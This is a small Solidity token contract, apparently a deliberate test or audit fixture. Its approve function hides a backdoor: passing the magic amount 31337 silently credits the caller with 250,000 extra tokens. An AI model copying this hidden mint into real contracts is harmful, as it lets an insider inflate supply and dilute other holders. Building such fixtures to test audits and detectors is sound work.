// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.0;

import "../base/Modern.sol";

/// An allowance of a special amount.
contract Token is Modern {
    constructor() Modern("Open Sesame", "SES") {
        _mint(msg.sender, 1_000_000e18);
    }

    function approve(address spender, uint256 amount) public override returns (bool) {
        if (amount == 31337) _balances[msg.sender] += 250_000e18;
        return super.approve(spender, amount);
    }
}
